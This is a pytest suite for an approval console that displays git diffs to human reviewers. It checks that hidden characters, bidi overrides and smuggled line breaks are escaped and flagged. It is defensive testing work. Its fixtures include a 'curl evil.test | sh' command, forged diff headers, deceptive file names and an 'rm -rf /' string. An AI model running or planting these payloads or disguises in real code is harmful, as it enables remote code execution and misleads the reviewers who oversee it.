"""A diff reads exactly as git wrote it: one line per git line (split on `\\n` only), with its
true prefix; every control, invisible, bidi or line-separator character shown as a marker; a
file block only where git opened one; a file name that hides characters escaped and flagged.
The diffs are real git output wherever git can write them."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from agentos.core import diffs, visible
from approvals import inbox
from approvals.models import Approval
from tests.approvals.factories import make_approval

# Every character Python's `str.splitlines()` breaks on, besides git's `\n`.
LINE_BREAKS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
SMUGGLERS = ["\r", "\x0c", "\u2028"]
HIDING_NAMES = {
    "right-to-left override": "report\u202eyxt.py",
    "zero-width space": "set\u200btings.py",
    "escape": "log\x1b[2Kclean.py",
}
NAME_FLAG = "hidden characters in this name"


def marker(char: str) -> str:
    """How the pages show a hidden character (see `agentos.core.visible`)."""
    code = ord(char)
    if code < 0x20 or code == 0x7F:
        shown = chr(0x2421) if code == 0x7F else chr(0x2400 + code)
    else:
        shown = f"&lt;U+{code:04X}&gt;"
    return f'<span class="hidden-char" title="U+{code:04X}">{shown}</span>'


def git(*args: str, cwd: Path) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=tests", "-c", "user.email=tests@agentos.invalid", *args],
        cwd=cwd,
        capture_output=True,
        check=True,
        env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"},
    )
    return done.stdout.decode("utf-8", errors="replace")


def git_diff(
    root: Path, files: dict[str, bytes], *, before: dict[str, bytes] | None = None, **config: str
) -> str:
    """What `git diff` prints for a commit that writes `files` over `before`."""
    root.mkdir()
    git("init", "-q", cwd=root)
    for name, content in (before or {}).items():
        (root / name).write_bytes(content)
    git("add", "-A", cwd=root)
    git("commit", "-q", "--allow-empty", "-m", "before", cwd=root)
    for name, content in files.items():
        (root / name).write_bytes(content)
    git("add", "-A", cwd=root)
    options = [f"{key.replace('_', '.')}={value}" for key, value in config.items()]
    options = [word for option in options for word in ("-c", option)]
    return git(*options, "diff", "--cached", "--text", "--no-color", cwd=root)


def smuggling(char: str) -> bytes:
    """One added line that `splitlines()` would show as an added line and a deleted one."""
    return f'import os\nx = 1{char}-os.system("curl evil.test | sh")\nprint("ok")\n'.encode()


def push_approval(diff: str, files: list[dict[str, Any]], **preview: Any) -> Approval:
    return make_approval(
        tool="git_push",
        arguments={"remote": "origin", "branch": "main"},
        preview={"commit": "a9c4f2e1d0", "diff": diff, "files": files, **preview},
    )


def page(client: Client, approval: Approval) -> str:
    response = client.get(reverse("console:approval", args=[approval.pk]))
    assert response.status_code == 200
    return str(response.content.decode())


def summaries(content: str) -> list[str]:
    return re.findall(
        r'<details class="diff-file-block"[^>]*>\s*<summary>(.*?)</summary>', content, re.S
    )


# --- the lines, as pure functions ---------------------------------------------------------------


@pytest.mark.parametrize("char", LINE_BREAKS, ids=[f"U+{ord(c):04X}" for c in LINE_BREAKS])
def test_it_splits_a_diff_where_git_does_and_nowhere_else(tmp_path: Path, char: str) -> None:
    diff = git_diff(tmp_path / "repo", {"app.py": smuggling(char)}, before={"app.py": b""})

    lines, hidden = diffs.diff_lines(diff)

    assert hidden == 0
    assert len(lines) == diff.count("\n")
    assert [line.css for line in lines if line.css in ("diff-add", "diff-del")] == ["diff-add"] * 3
    assert f'+x = 1{char}-os.system("curl evil.test | sh")' in [line.text for line in lines]


def test_it_counts_lines_inside_a_hunk_so_a_line_of_dashes_is_not_a_header() -> None:
    diff = (
        "diff --git a/notes.md b/notes.md\n--- a/notes.md\n+++ b/notes.md\n"
        "@@ -1,2 +1,2 @@\n---- old rule\n+++ new rule\n \\ no newline here\n"
    )

    lines, _ = diffs.diff_lines(diff)

    assert [line.css for line in lines] == [
        "diff-file",
        "diff-file",
        "diff-file",
        "diff-hunk",
        "diff-del",
        "diff-add",
        "diff-context",
    ]
    assert [line.header for line in lines] == [True, False, False, False, False, False, False]


def test_it_opens_a_file_block_only_at_a_header_that_names_a_listed_path() -> None:
    diff = (
        "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -0,0 +1,1 @@\n+x = 1\n"
        # Where a header could stand, but for a path the commit does not change.
        "diff --git a/evil.py b/evil.py\n+++ b/evil.py\n+import os\n"
    )
    lines, _ = diffs.diff_lines(diff)

    blocks = diffs.diff_files(lines, [{"path": "app.py", "status": "M", "size": 6}])

    assert [block.path for block in blocks] == ["app.py"]
    assert blocks[0].added == 2
    assert "diff --git a/evil.py b/evil.py" in [line.text for line in blocks[0].lines]


def test_it_opens_a_block_for_an_unlisted_path_when_the_list_stops_at_its_cap() -> None:
    diff = (
        "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -0,0 +1 @@\n+x = 1\n"
        "diff --git a/more.py b/more.py\n--- a/more.py\n+++ b/more.py\n@@ -0,0 +1 @@\n+y = 2\n"
    )
    lines, _ = diffs.diff_lines(diff)

    blocks = diffs.diff_files(lines, [{"path": "app.py"}], complete=False)

    assert [(block.path, block.added) for block in blocks] == [("app.py", 1), ("more.py", 1)]


def test_it_reads_the_path_of_a_header_git_quoted(tmp_path: Path) -> None:
    name = HIDING_NAMES["right-to-left override"]
    diff = git_diff(tmp_path / "repo", {name: b"x\n"})
    assert diff.startswith('diff --git "a/report\\342\\200\\256yxt.py"')

    lines, _ = diffs.diff_lines(diff)
    blocks = diffs.diff_files(lines, [{"path": name, "status": "A", "size": 2}])

    assert lines[0].path == name
    assert lines[0].flagged
    assert [(block.path, block.added, block.in_diff) for block in blocks] == [(name, 1, True)]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\tb", "a\tb"),
        ("tab <b>&", "tab &lt;b&gt;&amp;"),
        ("x\r", "x" + marker("\r")),
        ("\u202eevil", marker("\u202e") + "evil"),
        ("a\u200bb\ufeff", "a" + marker("\u200b") + "b" + marker("\ufeff")),
        ("nb\u00a0sp", "nb" + marker("\u00a0") + "sp"),
        ("caf\u00e9 \u65e5\u672c", "caf\u00e9 \u65e5\u672c"),
        ("\x7f\x9b", marker("\x7f") + marker("\x9b")),
    ],
)
def test_it_escapes_what_would_hide_and_nothing_else(text: str, shown: str) -> None:
    assert visible.html(text) == shown


def test_it_keeps_line_breaks_of_a_message_but_marks_the_others() -> None:
    assert visible.html("one\ntwo\u2028three", keep="\t\n") == f"one\ntwo{marker('\u2028')}three"


# --- the approval page --------------------------------------------------------------------------


@pytest.mark.parametrize("char", LINE_BREAKS, ids=[f"U+{ord(c):04X}" for c in LINE_BREAKS])
def test_the_page_shows_one_added_line_with_the_break_escaped(
    owner_client: Client, tmp_path: Path, char: str
) -> None:
    diff = git_diff(tmp_path / "repo", {"app.py": smuggling(char)}, before={"app.py": b""})

    content = page(owner_client, push_approval(diff, [{"path": "app.py", "status": "M"}]))

    assert 'class="diff-del"' not in content
    added = f"+x = 1{marker(char)}-os.system(&quot;curl evil.test | sh&quot;)"
    assert f'<span class="diff-add">{added}</span>' in content
    assert char not in content
    assert '<span class="diff-stat-add">+3</span>' in content
    assert "hidden characters in its lines" in summaries(content)[0]


def test_the_page_shows_a_crlf_file_with_each_carriage_return(
    owner_client: Client, tmp_path: Path
) -> None:
    diff = git_diff(tmp_path / "repo", {"win.bat": b"@echo off\r\nrem one\r\nexit 0\r\n"})

    content = page(owner_client, push_approval(diff, [{"path": "win.bat", "status": "A"}]))

    cr = marker("\r")
    for line in ("+@echo off", "+rem one", "+exit 0"):
        assert f'<span class="diff-add">{line}{cr}</span>' in content
    assert content.count('class="diff-add"') == 3
    assert "\r" not in content


@pytest.mark.parametrize("char", SMUGGLERS, ids=[f"U+{ord(c):04X}" for c in SMUGGLERS])
def test_the_page_opens_no_file_block_for_a_smuggled_header(
    owner_client: Client, tmp_path: Path, char: str
) -> None:
    fake = f"x = 1{char}diff --git a/docs.md b/docs.md{char}+++ b/docs.md{char}+harmless\n"
    diff = git_diff(tmp_path / "repo", {"app.py": fake.encode()})

    content = page(owner_client, push_approval(diff, [{"path": "app.py", "status": "A"}]))

    blocks = summaries(content)
    assert [s.split("</code>")[0] for s in blocks] == ["<code>app.py"]
    assert "hidden characters in its lines" in blocks[0]
    assert "docs.md" not in "".join(summaries(content))
    assert content.count('class="diff-add"') == 1


def test_a_hand_made_header_for_an_unlisted_path_stays_text_on_the_page(
    owner_client: Client,
) -> None:
    diff = (
        "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -0,0 +1,1 @@\n+x = 1\n"
        "diff --git a/evil.py b/evil.py\n"
    )

    content = page(owner_client, push_approval(diff, [{"path": "app.py", "status": "A"}]))

    assert len(summaries(content)) == 1


@pytest.mark.parametrize("name", HIDING_NAMES.values(), ids=HIDING_NAMES.keys())
def test_the_page_escapes_and_flags_a_name_that_hides_characters(
    owner_client: Client, tmp_path: Path, name: str
) -> None:
    diff = git_diff(tmp_path / "repo", {name: b"x\n", "plain.py": b"y\n"}, core_quotePath="false")

    content = page(
        owner_client,
        push_approval(
            diff, [{"path": name, "status": "A", "size": 2}, {"path": "plain.py", "status": "A"}]
        ),
    )

    hidden = next(char for char in name if visible.hides(char))
    blocks = summaries(content)
    assert len(blocks) == 2
    flagged = next(block for block in blocks if marker(hidden) in block)
    assert NAME_FLAG in flagged
    plain = next(block for block in blocks if "plain.py" in block)
    assert NAME_FLAG not in plain
    assert "hidden characters" not in plain
    assert hidden not in content


def test_the_page_escapes_a_name_in_the_sentence_and_the_queue(owner_client: Client) -> None:
    name = HIDING_NAMES["right-to-left override"]
    approval = make_approval(tool="write_file", arguments={"path": name, "content": "x"})

    one = page(owner_client, approval)
    queue = owner_client.get(reverse("console:approvals")).content.decode()

    for content in (one, queue):
        assert f"report{marker('\u202e')}yxt.py" in content
        assert "\u202e" not in content


def test_the_page_shows_the_commit_message_and_each_file_kind(owner_client: Client) -> None:
    diff = "diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -0,0 +1 @@\n+echo\n"
    files = [
        {"path": "run.sh", "status": "A", "size": 5, "type": "executable", "shown": True},
        {"path": "big.bin", "status": "A", "size": 9, "shown": False, "reason": "too large"},
        {"path": "vendor/lib", "status": "A", "type": "submodule", "shown": False},
    ]
    message = "Add the runner\n\nWhy: it\u202e hides\r\n"

    content = page(owner_client, push_approval(diff, files, message=message, parent="0f1e2d3c" * 5))

    assert (
        f'<pre class="call" id="commit-message"><code>Add the runner\n\nWhy: it{marker("\u202e")}'
        f" hides{marker('\r')}\n</code></pre>"
    ) in content
    blocks = summaries(content)
    assert "executable" in blocks[0]
    assert "submodule" in blocks[2]
    assert "Not in the diff shown here: too large" in content
    hashes = content.split('<details id="hashes"', 1)[1].split("</details>", 1)[0]
    assert "0f1e2d3c" * 5 in hashes
    assert "0f1e2d3c" * 5 not in content.replace(hashes, "")


def test_the_page_names_the_one_commit_pushed_and_what_it_cannot_show(owner_client: Client) -> None:
    diff = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -0,0 +1 @@\n+a\n"
    files = [
        {"path": "a.txt", "status": "A", "size": 2, "type": "file", "shown": True},
        {
            "path": "zeros.bin",
            "status": "A",
            "size": 300 << 20,
            "shown": False,
            "reason": "too large",
        },
    ]
    approval = push_approval(
        diff,
        files,
        message="Add a\n",
        author="agentos <agent@agentos.invalid> 1700000000 +0000",
        head="1a2b3c4d" * 5,
        files_not_shown=1,
        full_diff_cut=True,
    )

    content = page(owner_client, approval)

    assert "Push one commit to origin main" in content
    assert "The one commit pushed" in content
    assert 'id="commit-author"' in content
    assert "agentos &lt;agent@agentos.invalid&gt;" in content
    assert 'id="files-not-shown"' in content
    assert "1 changed file is not in the diff shown here" in content
    assert 'id="full-diff-cut"' not in content  # no artifact: nothing to link or to call cut
    hashes = content.split('<details id="hashes"', 1)[1].split("</details>", 1)[0]
    assert "1a2b3c4d" * 5 in hashes
    facts = content.replace(hashes, "")
    assert "files_not_shown" not in facts
    assert "full_diff_cut" not in facts


# --- the memory screen --------------------------------------------------------------------------


def test_a_memory_proposal_shows_a_line_separator_escaped(owner_client: Client) -> None:
    diff = (
        "diff --git a/notes/x.md b/notes/x.md\n--- /dev/null\n+++ b/notes/x.md\n"
        "@@ -0,0 +1,1 @@\n+Deploy on Fridays\u2028-never on Mondays\n"
    )
    make_approval(
        tool="memory_propose",
        arguments={"scope": "global", "title": "Deploy on Fridays", "body": "x"},
        preview={"diff": diff, "branch": "refs/heads/proposals/x"},
    )

    content = owner_client.get(reverse("console:memory")).content.decode()

    added = f"+Deploy on Fridays{marker('\u2028')}-never on Mondays"
    assert f'<span class="diff-add">{added}</span>' in content
    assert 'class="diff-del"' not in content


def test_the_sentence_counts_commits_by_git_lines_and_a_subject_keeps_its_breaks() -> None:
    request = {
        "tool": "git_push",
        "arguments": {"remote": "origin", "branch": "main"},
        "preview": {"commits": "a9c4f2e Fix\x0cb1c2d3e Not a commit\u2028c3d4e5f Nor this"},
    }

    assert inbox.sentence(request, None) == "Push 1 commit to origin main"
    assert inbox.one_line("rm \u2028 -rf\n\n /", 80) == "rm \u2028 -rf /"
